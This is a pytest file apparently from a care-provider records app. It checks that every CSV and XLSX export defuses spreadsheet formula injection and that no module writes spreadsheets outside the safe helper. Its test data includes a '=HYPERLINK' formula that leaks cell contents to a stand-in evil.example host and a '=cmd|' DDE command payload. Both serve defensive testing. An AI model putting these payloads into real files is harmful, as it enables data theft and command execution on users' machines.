"""Exports never hand Excel a formula (issue 19, "Reliability tests"): a name typed or imported
as ``=HYPERLINK(...)`` is written so Excel shows it as text. One helper does it for every CSV and
XLSX (``provider_desk.tabular.write``); a scan makes sure no module writes one another way, and a
hostile name goes through every export the program has."""

from __future__ import annotations

import ast
import csv
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import text

from provider_desk.areas import AREAS
from provider_desk.areas.opening import open_database
from provider_desk.dashboard.due_list import export_due_list
from provider_desk.db.session import Database
from provider_desk.demo import generate
from provider_desk.errors import ValidationError
from provider_desk.tabular.read import read_sheet
from provider_desk.tabular.write import (
    FORMULA_STARTS,
    csv_value,
    defuse,
    new_workbook,
    undefuse,
    write_table,
)
from tests.conftest import TODAY

ROOT = Path(__file__).resolve().parents[2]
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Amy")'
HOSTILE = {
    # table, column: value (each begins with one of the characters Excel acts on)
    ("staff_member", "first_name"): LINK,
    ("staff_member", "last_name"): "+44 7700 900123",
    ("staff_member", "notes"): "-2+3",
    ("staff_member", "team"): "@SUM(1+1)",
    ("person", "first_name"): "=cmd|' /C calc'!A0",
    ("person", "last_name"): "\tTabbed",
    ("person", "notes"): "\rReturn",
    ("complaint", "complainant_name"): LINK,
    ("complaint", "summary"): "@summary",
    ("complaint", "findings"): "-findings",
    ("complaint_event", "who"): "=who()",
    ("compliment", "from_name"): "=1+1",
    ("compliment", "what_was_said"): "+lovely",
    ("action", "description"): "=1+2",
    ("course", "name"): "=Course()",
    ("training_record", "notes"): "=notes()",
    ("organisation_settings", "provider_name"): "=Provider()",
    ("audit_template", "name"): "=Audit()",
    ("supervision_record", "outcome"): "=outcome()",
}
UNIQUE = {("course", "name"), ("audit_template", "name")}
"""Columns whose values must differ: the hostile value is followed by the row's id."""


# --------------------------------------------------------------------------- the helper


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_beginning_with_a_formula_character_is_defused_and_read_back(start: str) -> None:
    value = f"{start}1+1"
    assert csv_value(value) == "'" + value
    assert undefuse(csv_value(value)) == value


def test_numbers_dates_and_ordinary_text_are_left_alone() -> None:
    assert csv_value(-5) == -5 and csv_value(-2.5) == -2.5
    assert csv_value("Amy-Jo") == "Amy-Jo" and csv_value("'quoted'") == "'quoted'"
    assert undefuse("'quoted'") == "'quoted'" and undefuse("'") == "'"
    assert csv_value(None) == "" and defuse("") == ""


def test_csv_and_xlsx_round_trip_a_hostile_row(tmp_path: Path) -> None:
    row = (LINK, "+44 7700 900123", -5, 3.5, "#N/A", "\tTab", "x\x1by")
    for suffix in (".csv", ".xlsx"):
        path = write_table(tmp_path / f"t{suffix}", [f"c{i}" for i in range(len(row))], [row])
        if suffix == ".csv":
            raw = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
            assert raw[1][:3] == ["'" + LINK, "'+44 7700 900123", "-5"]
            assert raw[1][5] == "'\tTab"
        else:
            _assert_no_formula(path)
            ws = openpyxl.load_workbook(path).active
            assert ws is not None
            assert [c.data_type for c in ws[2]] == ["s", "s", "n", "n", "s", "s", "s"]
            assert ws["C2"].value == -5  # a real number stays a number
            assert ws["G2"].value == "xy"  # a control character a workbook cannot hold
        # The importers read back exactly what was exported.
        sheet = read_sheet(path)
        assert [str(v) for v in sheet.rows[1]][:2] == [LINK, "+44 7700 900123"]


def test_a_workbook_built_cell_by_cell_saves_text_not_formulas(tmp_path: Path) -> None:
    wb = new_workbook()
    ws = wb.active
    assert ws is not None
    ws["A1"] = LINK  # openpyxl makes this a formula on assignment …
    ws.cell(2, 1, "#DIV/0!")  # … and this an error value
    ws.append(["=1+1"])
    assert ws["A1"].data_type == "f"
    wb.save(tmp_path / "cells.xlsx")
    _assert_no_formula(tmp_path / "cells.xlsx")  # … but it is saved as text
    assert openpyxl.load_workbook(tmp_path / "cells.xlsx").active["A1"].value == LINK  # type: ignore[index]


# --------------------------------------------------------------------------- no other way out

WRITERS = {"csv.writer", "csv.DictWriter", "openpyxl.Workbook", "Workbook", "to_csv", "to_excel"}
HELPER = "provider_desk/tabular/write.py"


def _called_names(tree: ast.AST) -> Iterator[tuple[str, int]]:
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            f = node.func
            if isinstance(f, ast.Name):
                yield f.id, node.lineno
            elif isinstance(f, ast.Attribute):
                base = f.value.id if isinstance(f.value, ast.Name) else ""
                yield (f"{base}.{f.attr}" if base else f.attr), node.lineno
                yield f.attr, node.lineno
        elif isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
            for alias in node.names:
                if alias.name == "Workbook":
                    yield "Workbook", node.lineno


def test_no_module_writes_a_spreadsheet_except_through_the_helper() -> None:
    offenders: list[str] = []
    exact: list[str] = []
    for folder in ("provider_desk", "ui"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            rel = path.relative_to(ROOT).as_posix()
            source = path.read_text(encoding="utf-8")
            if not any(word in source for word in ("csv", "Workbook", "to_excel")):
                continue  # nothing that could write a spreadsheet: no need to parse it
            tree = ast.parse(source)
            for name, line in _called_names(tree):
                if name in WRITERS and rel != HELPER:
                    offenders.append(f"{rel}:{line} calls {name}")
            if "exact_columns=" in source and rel != HELPER:
                exact.append(rel)
    assert offenders == [], (
        "Write CSV/XLSX only through provider_desk.tabular.write (csv_writer, new_workbook, "
        "write_table), which keeps text from running as a formula in Excel"
    )
    # Only the ASC-WDS file writes identifiers exactly (they must match ASC-WDS's own files).
    assert exact == ["provider_desk/areas/training/exports.py"]


# --------------------------------------------------------------------------- every export


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Database]:
    """The demo provider with a hostile value in every column the exports show as a name."""
    path = tmp_path_factory.mktemp("formulas") / "demo.sqlite3"
    db, _ = open_database(str(path), user="t", create=True)
    generate(db, today=TODAY)
    with db.engine.begin() as conn:
        for (table, column), value in HOSTILE.items():
            unique = (table, column) in UNIQUE
            set_to = ":v || ' ' || id" if unique else ":v"
            conn.execute(text(f"UPDATE {table} SET {column} = {set_to}"), {"v": value})
        conn.execute(text("UPDATE staff_member SET asc_wds_worker_id = '-W' || id"))
    yield db
    db.dispose()


def _assert_no_formula(path: Path) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, f"{path.name} {name}"
                assert b't="e"' not in xml, f"{path.name} {name}"


def _csv_cells(data: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data)) for cell in row]


def _assert_csv_safe(name: str, data: str, exact: frozenset[int] = frozenset()) -> None:
    for row in csv.reader(io.StringIO(data)):
        for i, cell in enumerate(row):
            if i in exact or not cell.startswith(FORMULA_STARTS):
                continue
            try:
                float(cell)  # a real negative number may stay as it is
            except ValueError:
                pytest.fail(f"{name}: {cell!r} would run as a formula in Excel")


def _check(path: Path) -> str:
    """The file's text (CSV) or its cells' text (XLSX), after checking nothing can run."""
    if path.suffix == ".csv":
        from provider_desk.areas.training.exports import ASC_WDS_EXACT_COLUMNS

        data = path.read_text(encoding="utf-8-sig")
        # The ASC-WDS file's identifiers are exact (see the test below); nothing else is.
        exact = ASC_WDS_EXACT_COLUMNS if path.stem == "asc-wds-training" else frozenset()
        _assert_csv_safe(path.name, data, exact)
        return data
    _assert_no_formula(path)
    wb = openpyxl.load_workbook(path)
    return "\n".join(
        str(c.value) for ws in wb.worksheets for r in ws.iter_rows() for c in r if c.value
    )


def test_every_table_export_writes_the_hostile_names_as_text(
    hostile_db: Database, tmp_path: Path
) -> None:
    written: dict[str, str] = {}
    for area in AREAS:
        for exporter in area.exports.values():
            extra: dict[str, object] = {}
            if exporter.name == "complaints-summary":
                extra = {"start": "01/01/2020", "end": TODAY.strftime("%d/%m/%Y")}
            if any(a.flags == ("reference",) for a in exporter.args):
                table = {"care-plan": "person", "audit-report": "audit_run"}[exporter.name]
                with hostile_db.engine.connect() as conn:
                    extra["reference"] = conn.scalar(text(f"SELECT min(reference) FROM {table}"))
            for suffix in (".csv", ".xlsx"):
                out = tmp_path / f"{exporter.name}{suffix}"
                try:
                    exporter.run(hostile_db, out, TODAY, **extra)
                except ValidationError as exc:  # a format this export does not write
                    assert not out.exists()
                    assert any(p.field == "out" for p in exc.problems), exc.message
                    continue
                written[out.name] = _check(out)
        # The area's due list, as the page exports it.
        for suffix in (".csv", ".xlsx"):
            out = tmp_path / f"due-{area.key}{suffix}"
            export_due_list(hostile_db, out, area.key, TODAY)
            written[out.name] = _check(out)
    pdf_only = {"care-plan", "audit-report"}
    tables = {name.rsplit(".", 1)[0] for name in written if not name.startswith("due-")}
    assert tables == {e for a in AREAS for e in a.exports} - pdf_only
    everything = "\n".join(written.values())
    for value in set(HOSTILE.values()) - {"\rReturn"}:  # csv reads "\r" in a cell as a line end
        assert value in everything or "'" + value in everything, value
    assert "'" + LINK in _csv_cells(written["staff.csv"]) and LINK in written["staff.xlsx"]
    assert "'+44 7700 900123" in _csv_cells(written["staff.csv"])


def test_the_asc_wds_file_keeps_ids_exact_and_says_why(
    hostile_db: Database, tmp_path: Path
) -> None:
    from provider_desk.areas.training.exports import (
        ASC_WDS_EXACT_COLUMNS,
        export_asc_wds_training,
    )

    out = tmp_path / "asc.csv"
    warnings = export_asc_wds_training(hostile_db, out, TODAY).warnings
    data = out.read_text(encoding="utf-8")
    _assert_csv_safe(out.name, data, exact=ASC_WDS_EXACT_COLUMNS)
    rows = list(csv.reader(io.StringIO(data)))
    assert all(re.fullmatch(r"-W\d+", r[1]) for r in rows[1:])  # matches ASC-WDS's staff file
    assert all(r[3].startswith("'=Course() ") for r in rows[1:])
    assert {r[11] for r in rows[1:]} == {"'=notes()"}
    assert any("worker id '-W" in w and "do not open this file in Excel" in w for w in warnings)
    assert any("the course name begins with a character Excel" in w for w in warnings)


@pytest.mark.slow  # builds the whole evidence pack (about 10 s)
def test_the_evidence_bundle_index_and_registers_are_defused(
    hostile_db: Database, tmp_path: Path
) -> None:
    from provider_desk.clock import now
    from provider_desk.evidence import build_evidence_pack, check_dates

    period = check_dates(TODAY.replace(year=TODAY.year - 1), TODAY, TODAY)
    built = build_evidence_pack(
        hostile_db,
        period,
        tmp_path / "pack.pdf",
        today=TODAY,
        created=now(),
        names=True,
        bundle=tmp_path / "pack.zip",
    )
    assert built.bundle is not None
    with zipfile.ZipFile(built.bundle) as z:
        for name in z.namelist():
            if name.endswith(".xlsx"):
                part = tmp_path / Path(name).name
                part.write_bytes(z.read(name))
                _check(part)
            elif name.endswith(".csv"):
                _assert_csv_safe(name, z.read(name).decode("utf-8-sig"))


@pytest.mark.slow  # renders each subject access PDF
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_subject_access_records_are_defused(
    hostile_db: Database, tmp_path: Path, fmt: str
) -> None:
    from provider_desk.privacy.export import export_subject_access
    from provider_desk.privacy.subject_access import PERSON, STAFF

    with hostile_db.engine.connect() as conn:
        subjects = {
            STAFF: conn.scalar(text("SELECT min(id) FROM staff_member")),
            PERSON: conn.scalar(text("SELECT min(id) FROM person")),
        }
    for kind, subject in subjects.items():
        out = tmp_path / f"{kind}-{fmt}.zip"
        export_subject_access(hostile_db, kind, subject, out, today=TODAY, fmt=fmt)
        seen = ""
        with zipfile.ZipFile(out) as z:
            for name in z.namelist():
                part = tmp_path / Path(name).name
                if name.endswith((".csv", ".xlsx")):
                    part.write_bytes(z.read(name))
                    seen += _check(part)
        assert ("=HYPERLINK(" if kind == STAFF else "=cmd|") in seen  # the name went through
